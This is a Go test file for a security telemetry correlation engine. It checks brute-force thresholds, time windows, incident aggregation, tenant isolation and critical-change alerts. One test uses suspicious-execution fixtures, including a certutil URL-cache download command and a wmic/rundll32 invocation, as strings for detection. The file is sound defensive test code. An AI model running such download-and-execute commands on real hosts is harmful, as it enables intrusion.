package correlation

import (
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"

	"telemetry-service/internal/models"
	"telemetry-service/internal/repository"
	"telemetry-service/internal/repository/memory"
)

func newTestEngine(t *testing.T) (*Engine, *memory.EventStore, *memory.IncidentStore) {
	t.Helper()
	events := memory.NewEventStore()
	incidents := memory.NewIncidentStore()
	e := NewEngine(events, incidents, DefaultWindow, zaptest.NewLogger(t))
	e.now = func() time.Time { return time.Date(2026, 8, 30, 12, 0, 0, 0, time.UTC) }
	return e, events, incidents
}

func authFailures(tenantID, srcIP, username string, n int, ts time.Time) []models.Event {
	events := make([]models.Event, n)
	for i := range events {
		events[i] = models.Event{
			ID:        fmt.Sprintf("ev-%s-%d", srcIP, i),
			TenantID:  tenantID,
			AgentID:   "agent-1",
			TS:        ts,
			Host:      "web-1",
			EventType: "auth_failed",
			SrcIP:     srcIP,
			Username:  username,
		}
	}
	return events
}

func TestEvaluate_BruteForceAtThreshold(t *testing.T) {
	e, events, incidents := newTestEngine(t)
	ctx := context.Background()
	ts := e.now().Add(-5 * time.Minute)

	require.NoError(t, events.AppendEvents(ctx, authFailures("t1", "203.0.113.9", "root", 5, ts)))

	payloads, err := e.Evaluate(ctx, "t1")
	require.NoError(t, err)
	require.Len(t, payloads, 1)
	require.Equal(t, models.KindBruteForce, payloads[0].Kind)
	require.Equal(t, models.SeverityHigh, payloads[0].Severity)
	require.Equal(t, "203.0.113.9", payloads[0].Context["src_ip"])
	require.Equal(t, "root", payloads[0].Context["username"])
	require.Equal(t, 5, payloads[0].Context["threshold"])

	inc, err := incidents.GetOpen(ctx, "t1", models.KindBruteForce)
	require.NoError(t, err)
	require.Equal(t, 1, inc.Count)
	require.Equal(t, models.StatusOpen, inc.Status)
}

func TestEvaluate_BruteForceBelowThreshold(t *testing.T) {
	e, events, incidents := newTestEngine(t)
	ctx := context.Background()
	ts := e.now().Add(-5 * time.Minute)

	require.NoError(t, events.AppendEvents(ctx, authFailures("t1", "203.0.113.9", "root", 4, ts)))

	payloads, err := e.Evaluate(ctx, "t1")
	require.NoError(t, err)
	require.Empty(t, payloads)

	_, err = incidents.GetOpen(ctx, "t1", models.KindBruteForce)
	require.ErrorIs(t, err, repository.ErrNotFound)
}

func TestEvaluate_GroupsBySourceAndUsername(t *testing.T) {
	e, events, incidents := newTestEngine(t)
	ctx := context.Background()
	ts := e.now().Add(-5 * time.Minute)

	// Three failures each from two sources never cross the threshold.
	require.NoError(t, events.AppendEvents(ctx, authFailures("t1", "203.0.113.9", "root", 3, ts)))
	require.NoError(t, events.AppendEvents(ctx, authFailures("t1", "203.0.113.10", "root", 3, ts)))

	payloads, err := e.Evaluate(ctx, "t1")
	require.NoError(t, err)
	require.Empty(t, payloads)

	_, err = incidents.GetOpen(ctx, "t1", models.KindBruteForce)
	require.ErrorIs(t, err, repository.ErrNotFound)
}

func TestEvaluate_EventsOutsideWindowIgnored(t *testing.T) {
	e, events, incidents := newTestEngine(t)
	ctx := context.Background()
	old := e.now().Add(-DefaultWindow - time.Minute)

	require.NoError(t, events.AppendEvents(ctx, authFailures("t1", "203.0.113.9", "root", 10, old)))

	payloads, err := e.Evaluate(ctx, "t1")
	require.NoError(t, err)
	require.Empty(t, payloads)

	_, err = incidents.GetOpen(ctx, "t1", models.KindBruteForce)
	require.ErrorIs(t, err, repository.ErrNotFound)
}

func TestEvaluate_RepeatedMatchUpdatesOpenAggregate(t *testing.T) {
	e, events, incidents := newTestEngine(t)
	ctx := context.Background()
	ts := e.now().Add(-5 * time.Minute)

	require.NoError(t, events.AppendEvents(ctx, authFailures("t1", "203.0.113.9", "root", 5, ts)))

	_, err := e.Evaluate(ctx, "t1")
	require.NoError(t, err)

	first, err := incidents.GetOpen(ctx, "t1", models.KindBruteForce)
	require.NoError(t, err)

	// A second evaluation with an additional attacking source updates
	// the same aggregate instead of opening another incident.
	later := e.now().Add(time.Minute)
	e.now = func() time.Time { return later }
	require.NoError(t, events.AppendEvents(ctx, authFailures("t1", "198.51.100.7", "admin", 6, ts)))

	payloads, err := e.Evaluate(ctx, "t1")
	require.NoError(t, err)
	require.Len(t, payloads, 2)

	second, err := incidents.GetOpen(ctx, "t1", models.KindBruteForce)
	require.NoError(t, err)
	require.Equal(t, first.ID, second.ID)
	require.Equal(t, 3, second.Count)
	require.True(t, second.LastSeen.After(first.LastSeen))
	require.True(t, second.FirstSeen.Equal(first.FirstSeen))

	all, err := incidents.ListRecent(ctx, "t1", 10)
	require.NoError(t, err)
	require.Len(t, all, 1)
}

func TestEvaluate_ContextMergeNewValuesWin(t *testing.T) {
	e, events, incidents := newTestEngine(t)
	ctx := context.Background()

	require.NoError(t, events.AppendEvents(ctx, authFailures("t1", "203.0.113.9", "root", 5, e.now().Add(-20*time.Minute))))
	_, err := e.Evaluate(ctx, "t1")
	require.NoError(t, err)

	// Later the original burst ages out and a new source crosses the
	// threshold; the merged context must describe the new group.
	e.now = func() time.Time { return time.Date(2026, 8, 30, 12, 25, 0, 0, time.UTC) }
	require.NoError(t, events.AppendEvents(ctx, authFailures("t1", "198.51.100.7", "admin", 5, e.now().Add(-time.Minute))))

	_, err = e.Evaluate(ctx, "t1")
	require.NoError(t, err)

	inc, err := incidents.GetOpen(ctx, "t1", models.KindBruteForce)
	require.NoError(t, err)
	require.Equal(t, "198.51.100.7", inc.Context["src_ip"])
	require.Equal(t, "admin", inc.Context["username"])
}

func TestEvaluate_MissingUsernamePlaceholder(t *testing.T) {
	e, events, _ := newTestEngine(t)
	ctx := context.Background()

	require.NoError(t, events.AppendEvents(ctx, authFailures("t1", "203.0.113.9", "", 5, e.now().Add(-time.Minute))))

	payloads, err := e.Evaluate(ctx, "t1")
	require.NoError(t, err)
	require.Len(t, payloads, 1)
	require.Equal(t, "?", payloads[0].Context["username"])
}

func TestEvaluate_SuspiciousExecutionCounted(t *testing.T) {
	e, events, incidents := newTestEngine(t)
	ctx := context.Background()
	ts := e.now().Add(-time.Minute)

	require.NoError(t, events.AppendEvents(ctx, []models.Event{
		{ID: "s1", TenantID: "t1", TS: ts, App: "PowerShell", EventType: "process_start"},
		{ID: "s2", TenantID: "t1", TS: ts, EventType: "process_start",
			Raw: map[string]interface{}{"message": "certutil -urlcache -f http://x"}},
		// Multiple indicators in one event count once.
		{ID: "s3", TenantID: "t1", TS: ts, EventType: "process_start",
			Raw: map[string]interface{}{"message": "wmic process call rundll32"}},
		{ID: "s4", TenantID: "t1", TS: ts, EventType: "login", App: "sshd"},
	}))

	payloads, err := e.Evaluate(ctx, "t1")
	require.NoError(t, err)
	// Suspicious execution is recorded but never notified.
	require.Empty(t, payloads)

	inc, err := incidents.GetOpen(ctx, "t1", models.KindSuspiciousExecution)
	require.NoError(t, err)
	require.Equal(t, models.SeverityMedium, inc.Severity)
	require.Equal(t, 3, inc.Context["count"])
}

func TestEvaluate_CriticalChangePerEvent(t *testing.T) {
	e, events, incidents := newTestEngine(t)
	ctx := context.Background()
	ts := e.now().Add(-time.Minute)

	require.NoError(t, events.AppendEvents(ctx, []models.Event{
		{ID: "c1", TenantID: "t1", TS: ts, Host: "db-1", EventType: "sudoers_changed"},
		{ID: "c2", TenantID: "t1", TS: ts, Host: "dc-1", EventType: "administrators_group_modified"},
	}))

	payloads, err := e.Evaluate(ctx, "t1")
	require.NoError(t, err)
	require.Len(t, payloads, 2)

	inc, err := incidents.GetOpen(ctx, "t1", models.KindCriticalChange)
	require.NoError(t, err)
	require.Equal(t, 2, inc.Count)
	require.Equal(t, models.SeverityHigh, inc.Severity)
	// Context reflects the most recently processed event.
	require.Equal(t, "dc-1", inc.Context["host"])
	require.Equal(t, "administrators_group_modified", inc.Context["event_type"])
}

func TestEvaluate_TenantsIsolated(t *testing.T) {
	e, events, incidents := newTestEngine(t)
	ctx := context.Background()

	require.NoError(t, events.AppendEvents(ctx, authFailures("t1", "203.0.113.9", "root", 5, e.now().Add(-time.Minute))))

	payloads, err := e.Evaluate(ctx, "t2")
	require.NoError(t, err)
	require.Empty(t, payloads)

	_, err = incidents.GetOpen(ctx, "t2", models.KindBruteForce)
	require.ErrorIs(t, err, repository.ErrNotFound)
}

func TestNotifiable(t *testing.T) {
	require.True(t, Notifiable(models.KindBruteForce))
	require.True(t, Notifiable(models.KindCriticalChange))
	require.False(t, Notifiable(models.KindSuspiciousExecution))
}
